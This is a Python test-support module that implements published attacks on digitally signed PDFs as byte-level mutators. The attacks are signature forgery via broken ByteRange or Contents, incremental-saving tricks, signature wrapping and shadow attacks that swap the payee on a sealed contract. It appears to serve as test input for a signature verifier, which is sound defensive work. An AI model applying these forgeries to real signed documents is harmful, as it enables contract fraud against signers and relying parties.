"""The published attacks on signed PDFs, as changes of a sealed file: universal forgery, incremental saving, wrapping, three shadow classes.

Promises: each maker does to our file what the papers did to theirs (Mladenov et al. 2019, "1 Trillion Dollar Refund"; Mainka et al. 2021,
"Shadow Attacks"). What a shadow attacker prepares before anybody signs is in `prepared`.
"""

import re
from collections.abc import Callable, Mapping

from pyhanko.pdf_utils.generic import StreamObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from support.sealed_pdfs import updated
from support.small_pdfs import raw_pdf

_RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+) *\]")
_PAYEE = b"BT /F1 24 Tf 72 700 Td (Pay the attacker) Tj ET"
_COVER = b"1 g 0 0 612 792 re f 0 g BT /F1 24 Tf 72 700 Td (Pay the lender) Tj ET"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 6 0 R>>>>/Contents %b>>"


def _stream(content: bytes) -> bytes:
    return b"<</Length %d>>stream\n%b\nendstream" % (len(content), content)


def prepared(*, second_page_object: bool = False) -> bytes:
    """Return a contract whose first page covers another payee; with a second object of that page which no table names, if asked."""
    file = raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        _PAGE % b"[4 0 R 5 0 R]",
        _stream(_PAYEE),
        _stream(_COVER),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )
    if not second_page_object:
        return file
    at = file.index(b"xref\n0 ")
    body = file[:at] + b"3 0 obj\n%b\nendobj\n" % (_PAGE % b"4 0 R")
    return body + file[at : file.index(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % len(body)


# --- universal signature forgery: the signature is there, and what it covers is not said ----------------------------


def forged_without_range(data: bytes) -> bytes:
    return data.replace(b"/ByteRange [", b"/ByteRangZ [", 1)


def forged_with_negative_range(data: bytes) -> bytes:
    return _with_range(data, b"/ByteRange [0 -1 0 -1")


def forged_with_empty_range(data: bytes) -> bytes:
    return _with_range(data, b"/ByteRange [0 0 0 0")


def forged_without_contents(data: bytes) -> bytes:
    start, _ = _gap(data)
    at = data.rindex(b"/Contents", 0, start)
    return data[:at] + b"/ContentZ" + data[at + 9 :]


def forged_with_zero_contents(data: bytes) -> bytes:
    start, end = _gap(data)
    return data[: start + 1] + b"0" * (end - start - 2) + data[end - 1 :]


# --- incremental saving: something stands after the signature --------------------------------------------------------


def saved_with_all_parts(data: bytes) -> bytes:
    return updated(data, _pay_the_attacker)


def saved_without_table(data: bytes) -> bytes:
    """Append a page object and nothing that says where it is: some readers search for it."""
    return data + b"3 0 obj\n%b\nendobj\n" % (_PAGE % b"4 0 R")


def saved_with_old_table(data: bytes) -> bytes:
    """Append a page object, and lead to the table that was there before."""
    return saved_without_table(data) + b"startxref\n%b\n%%%%EOF\n" % _newest_table(data)


def saved_with_copied_signature(data: bytes) -> bytes:
    """Append an update and once more the signature, so that some readers take the end for signed."""
    start, end = _gap(data)
    copied = b"<</Type/Sig/Filter/Adobe.PPKLite/Contents %b/ByteRange [0 %d %d %d]>>" % (
        data[start:end],
        start,
        end,
        len(data) - end,
    )
    return saved_with_all_parts(data) + b"999 0 obj\n%b\nendobj\n%%%%EOF\n" % copied


# --- signature wrapping: the gap of the byte range holds more than the signature -------------------------------------


def wrapped(data: bytes) -> bytes:
    """Shorten the padding of the signature, put another page into the room that this leaves, and lead to it; no offset moves."""
    start, end = _gap(data)
    kept = data[start : end - 1].rstrip(b"0")
    kept += b"0" * (len(kept) % 2 == 0) + b">"
    evil = b"/Wrapped(\n3 0 obj\n%b\nendobj\n)" % (_PAGE % b"4 0 R")  # a string to one reader, a page to the other
    changed = data[:start] + (kept + evil).ljust(end - start) + data[end:]
    return _led_to(changed, changed.index(b"3 0 obj", start))


# --- shadows: prepared before the signature, brought out after it ----------------------------------------------------


def hidden(data: bytes) -> bytes:
    """Take away the cover that hid the other payee: class "hide"."""

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        reference = writer.find_page_for_modification(0)[0]
        page = reference.get_object()
        page[pdf_name("/Contents")] = page["/Contents"].raw_get(0)
        writer.mark_update(reference)

    return updated(data, uncover)


def replaced(data: bytes) -> bytes:
    """Give the font of the page another meaning: class "replace"."""

    def other_font(writer: IncrementalPdfFileWriter) -> None:
        font = writer.find_page_for_modification(0)[0].get_object()["/Resources"]["/Font"].raw_get("/F1")
        font.get_object()[pdf_name("/BaseFont")] = pdf_name("/Symbol")
        writer.mark_update(font)

    return updated(data, other_font)


def hidden_and_replaced(data: bytes) -> bytes:
    """Append a table that leads to the second object of the page: nothing new is in the file. Class "hide and replace"."""
    return _led_to(data, data.index(b"\n3 0 obj", data.index(b"\n3 0 obj") + 1) + 1)


ATTACKS: Mapping[str, Callable[[bytes], bytes]] = {
    attack.__name__: attack
    for attack in (
        forged_without_range,
        forged_with_negative_range,
        forged_with_empty_range,
        forged_without_contents,
        forged_with_zero_contents,
        saved_with_all_parts,
        saved_without_table,
        saved_with_old_table,
        saved_with_copied_signature,
        wrapped,
        hidden,
        replaced,
        hidden_and_replaced,
    )
}


def _pay_the_attacker(writer: IncrementalPdfFileWriter) -> None:
    reference = writer.find_page_for_modification(0)[0]
    reference.get_object()[pdf_name("/Contents")] = writer.add_object(StreamObject(stream_data=_PAYEE))
    writer.mark_update(reference)


def _gap(data: bytes) -> tuple[int, int]:
    """Return where the seal's own signature stands: what its byte range leaves out."""
    found = _RANGE.search(data)
    assert found is not None
    return int(found[2]), int(found[3])


def _with_range(data: bytes, text: bytes) -> bytes:
    found = _RANGE.search(data)
    assert found is not None
    return data[: found.start()] + text.ljust(len(found[0]) - 1) + b"]" + data[found.end() :]


def _newest_table(data: bytes) -> bytes:
    return data[data.rindex(b"startxref") :].split()[1]


def _led_to(data: bytes, place: int) -> bytes:
    """Append a table that says that object 3, the page, is there."""
    table = b"xref\n3 1\n%010d 00000 n \ntrailer\n<</Size 3000/Root 1 0 R/Prev %b>>\n" % (place, _newest_table(data))
    return data + table + b"startxref\n%d\n%%%%EOF\n" % len(data)
